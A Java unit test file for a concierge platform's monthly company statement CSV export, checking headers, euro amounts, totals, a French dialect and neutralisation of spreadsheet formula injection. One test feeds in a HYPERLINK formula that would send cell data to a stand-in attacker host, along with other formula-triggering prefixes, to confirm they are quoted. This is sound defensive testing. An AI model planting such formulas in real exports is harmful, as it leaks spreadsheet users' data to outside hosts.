package fr.centreisere.concierge.order.company.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.time.Instant;
import java.time.LocalDate;
import java.time.YearMonth;
import java.util.List;

import fr.centreisere.concierge.order.company.Statement;
import fr.centreisere.concierge.order.money.Money;
import fr.centreisere.concierge.platform.export.CsvDialect;
import fr.centreisere.concierge.order.orders.ServiceTitle;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** The statement's file: the contract's RFC 4180 CSV unchanged, and the French dialect of the same lines. */
class StatementExportTest {

    private static final String[] HEADER = { "order_number", "completed_on", "completed_at", "employee_id", "employee_name",
            "employee_email", "service_id", "service", "category", "total_eur", "employer_share_eur",
            "employee_share_eur" };


    @Test
    void theCsvReadsBackWithItsHeaderEurosWithTwoDecimalsAndTotals() throws IOException {
        Statement statement = new Statement("cmp-alpes", "Alpes Numérique", YearMonth.of(2026, 12), List.of(
                line("ord-1", "CI-2026-000001", "Étienne \"Tin\" Employé, junior", 6_000, 3_000,
                        Instant.parse("2026-12-05T15:00:00Z")),
                line("ord-2", "CI-2026-000002", "Inès Garnier", 1_005, 5, Instant.parse("2026-11-30T23:00:00Z"))));

        String csv = StatementExport.csv(statement, CsvDialect.RFC_4180);

        assertThat(csv).contains("\r\n");
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv))) {
            assertThat(parser.getHeaderNames()).containsExactly(HEADER);
            List<CSVRecord> records = parser.getRecords();
            assertThat(records).hasSize(3);
            CSVRecord first = records.get(0);
            assertThat(first.get("order_number")).isEqualTo("CI-2026-000002");
            assertThat(first.get("completed_on")).isEqualTo("2026-12-01");
            assertThat(first.get("completed_at")).isEqualTo("2026-12-01T00:00:00");
            assertThat(first.get("total_eur")).isEqualTo("10.05");
            assertThat(first.get("employer_share_eur")).isEqualTo("0.05");
            assertThat(first.get("employee_share_eur")).isEqualTo("10.00");
            CSVRecord second = records.get(1);
            assertThat(second.get("employee_name")).isEqualTo("Étienne \"Tin\" Employé, junior");
            assertThat(second.get("service")).isEqualTo("Réparation de vélo");
            CSVRecord total = records.get(2);
            assertThat(total.get("order_number")).isEqualTo("TOTAL");
            assertThat(total.get("total_eur")).isEqualTo("70.05");
            assertThat(total.get("employer_share_eur")).isEqualTo("30.05");
            assertThat(total.get("employee_share_eur")).isEqualTo("40.00");
            // the totals row is the sum of the lines
            assertThat(records.subList(0, 2).stream().mapToLong(r -> cents(r.get("employer_share_eur"))).sum())
                    .isEqualTo(cents(total.get("employer_share_eur")));
        }
    }

    @Test
    void cellsASpreadsheetWouldTakeForFormulasAreNeutralisedWithAQuote() throws IOException {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")";
        Statement statement = new Statement("cmp-alpes", "Alpes Numérique", YearMonth.of(2026, 12), List.of(
                line("ord-1", "CI-2026-000001", formula, 6_000, 3_000, Instant.parse("2026-12-05T15:00:00Z")),
                line("ord-2", "CI-2026-000002", "+33 4 76 00 00 00", 1_000, 0, Instant.parse("2026-12-06T15:00:00Z")),
                line("ord-3", "CI-2026-000003", "-1+1", 1_000, 0, Instant.parse("2026-12-07T15:00:00Z")),
                line("ord-4", "CI-2026-000004", "@SUM(A1:A9)", 1_000, 0, Instant.parse("2026-12-08T15:00:00Z")),
                line("ord-5", "CI-2026-000005", "\tTab", 1_000, 0, Instant.parse("2026-12-09T15:00:00Z")),
                line("ord-6", "CI-2026-000006", "\rReturn", 1_000, 0, Instant.parse("2026-12-10T15:00:00Z"))));

        String csv = StatementExport.csv(statement, CsvDialect.RFC_4180);

        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv))) {
            List<String> names = parser.getRecords().stream().map(r -> r.get("employee_name")).toList();
            assertThat(names).containsExactly("'" + formula, "'+33 4 76 00 00 00", "'-1+1", "'@SUM(A1:A9)", "'\tTab",
                    "'\rReturn", "");
            assertThat(names).noneMatch(name -> !name.isEmpty() && "=+-@\t\r".indexOf(name.charAt(0)) >= 0);
        }
        // amounts the statement writes itself stay numbers (a negative total is not a formula to neutralise)
        assertThat(csv).contains(",60.00,30.00,30.00\r\n");
    }

    @Test
    void anEmptyMonthIsAHeaderAndAZeroTotal() {
        String csv = StatementExport.csv(new Statement("cmp-alpes", "Alpes", YearMonth.of(2026, 12), List.of()), CsvDialect.RFC_4180);
        assertThat(csv).startsWith("order_number,completed_on,").endsWith("TOTAL,,,,,,,,,0.00,0.00,0.00\r\n");
    }

    @Test
    void theFrenchDialectHoldsTheSameLinesForASpreadsheet() throws IOException {
        Statement statement = new Statement("cmp-alpes", "Alpes Numérique", YearMonth.of(2026, 12), List.of(
                line("ord-1", "CI-2026-000001", "=1+1", 6_000, 3_000, Instant.parse("2026-12-05T15:00:00Z")),
                line("ord-2", "CI-2026-000002", "Inès Garnier", 1_005, 5, Instant.parse("2026-11-30T23:00:00Z"))));

        String csv = StatementExport.csv(statement, CsvDialect.FRENCH);

        assertThat(csv).startsWith("\uFEFF");
        try (CSVParser parser = CSVFormat.RFC4180.builder().setDelimiter(';').setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv.substring(1)))) {
            assertThat(parser.getHeaderNames()).startsWith("N° de commande", "Terminée le", "Terminée à");
            List<CSVRecord> records = parser.getRecords();
            assertThat(records).hasSize(3);
            assertThat(records.get(0).get("N° de commande")).isEqualTo("CI-2026-000002");
            assertThat(records.get(0).get("Terminée le")).isEqualTo("01/12/2026");
            assertThat(records.get(0).get("Terminée à")).isEqualTo("01/12/2026 00:00");
            assertThat(records.get(0).get("Total TTC (€)")).isEqualTo("10,05");
            assertThat(records.get(0).get("Part employeur (€)")).isEqualTo("0,05");
            assertThat(records.get(1).get("Salarié")).isEqualTo("'=1+1");
            assertThat(records.get(2).get("N° de commande")).isEqualTo("TOTAL");
            assertThat(records.get(2).get("Total TTC (€)")).isEqualTo("70,05");
        }
    }

    private static long cents(String euros) {
        return new java.math.BigDecimal(euros).movePointRight(2).longValueExact();
    }

    private static Statement.Line line(String id, String number, String name, long total, long employer,
            Instant completedAt) {
        return new Statement.Line(id, number, "usr-1", name, "e@alpes-numerique.fr", "svc-reparation-velo",
                new ServiceTitle("Réparation de vélo", "Bike repair"), "SMALL_REPAIRS",
                LocalDate.ofInstant(completedAt, fr.centreisere.concierge.order.orders.Slot.TERRITORY_ZONE), completedAt,
                Money.ofCents(total), Money.ofCents(employer), Money.ofCents(total - employer));
    }
}
